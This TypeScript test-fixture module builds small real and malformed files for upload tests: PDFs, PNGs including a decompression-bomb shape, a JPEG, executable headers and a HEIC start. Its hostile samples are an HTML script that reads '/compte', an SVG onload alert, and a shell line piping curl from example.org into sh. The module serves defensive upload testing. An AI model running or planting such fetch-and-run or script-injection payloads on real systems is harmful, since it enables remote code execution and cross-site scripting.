import { crc32, deflateSync } from 'node:zlib';

/*
 * Real, tiny files built byte by byte for the upload tests: valid ones that any viewer opens,
 * and the damaged, disguised or dangerous variants an upload must refuse.
 */

/** A one-page PDF with a correct cross-reference table. `encrypted` adds a standard security handler dictionary to the trailer. */
export function samplePdf(options: { encrypted?: boolean; text?: string } = {}): Buffer {
  const content = `0 0 1 rg 20 20 160 160 re f\n% ${options.text ?? 'Sesame test document'}\n`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>',
    `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}endstream`,
  ];
  if (options.encrypted) {
    // RC4 40-bit standard handler (PDF 1.4 §3.5.2); the O and U entries are 32-byte strings.
    objects.push(`<< /Filter /Standard /V 1 /R 2 /O <${'a1'.repeat(32)}> /U <${'b2'.repeat(32)}> /P -44 >>`);
  }
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  const encrypt = options.encrypted ? ` /Encrypt ${objects.length} 0 R /ID [<${'0f'.repeat(16)}> <${'0f'.repeat(16)}>]` : '';
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${encrypt} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A greyscale PNG of the given size, all pixels black. With `bitDepth: 1` a very large image
 * stays a small file: the shape of a decompression bomb.
 */
export function samplePng(width = 4, height = 4, options: { bitDepth?: 1 | 8 } = {}): Buffer {
  const bitDepth = options.bitDepth ?? 8;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = bitDepth;
  ihdr[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8);
  const raw = Buffer.alloc(rowBytes * height); // each row: filter type 0, then zero pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The same PNG with one bit of its IHDR checksum flipped, as a damaged copy would have. */
export function pngWithBadHeaderCrc(): Buffer {
  const png = samplePng();
  png[8 + 8 + 13 + 3]! ^= 0x01; // signature, IHDR length and type, IHDR data, then the CRC's last byte
  return png;
}

/**
 * A baseline greyscale JPEG of the given size, uniformly grey: one quantisation table, one
 * Huffman code per table (DC difference 0, end of block), two bits per 8×8 block.
 */
export function sampleJpeg(width = 8, height = 8): Buffer {
  const u16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const bits = blocks * 2;
  const scan = Buffer.alloc(Math.ceil(bits / 8));
  // All codes are 0 bits; the last byte is padded with 1 bits, as the standard asks.
  const padding = scan.length * 8 - bits;
  if (padding > 0) scan[scan.length - 1] = (1 << padding) - 1;
  const huffman = (tableClass: number) => [0xff, 0xc4, ...u16(20), tableClass << 4, 1, ...new Array(15).fill(0), 0x00];
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    Buffer.from([0xff, 0xe0, ...u16(16), 0x4a, 0x46, 0x49, 0x46, 0x00, 1, 1, 0, 0, 1, 0, 1, 0, 0]), // JFIF
    Buffer.from([0xff, 0xdb, ...u16(67), 0x00, ...new Array(64).fill(1)]),
    Buffer.from([0xff, 0xc0, ...u16(11), 8, ...u16(height), ...u16(width), 1, 1, 0x11, 0]),
    Buffer.from(huffman(0)),
    Buffer.from(huffman(1)),
    Buffer.from([0xff, 0xda, ...u16(8), 1, 1, 0x00, 0, 63, 0]),
    scan,
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** The first bytes of a Windows program (DOS header pointing at a PE header). */
export function sampleWindowsProgram(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84); // i386
  return b;
}

/** The first bytes of a Linux program (64-bit ELF header). */
export function sampleLinuxProgram(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16); // executable
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

export const sampleHtml = () => Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("/compte").then(r=>r.text()).then(alert)</script></body></html>\n');
export const sampleSvg = () => Buffer.from('\ufeff  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>');
export const sampleShellScript = () => Buffer.from('#!/bin/sh\ncurl https://example.org/x | sh\n');

/** The start of an iPhone photo (HEIF container, `heic` brand). */
export function sampleHeic(): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftypheic', 4, 'latin1');
  ftyp.write('mif1heic', 16, 'latin1');
  return Buffer.concat([ftyp, Buffer.alloc(200)]);
}

/** A file cut short, as an interrupted transfer leaves it. */
export const truncated = (file: Buffer, keep = 0.6) => file.subarray(0, Math.floor(file.length * keep));
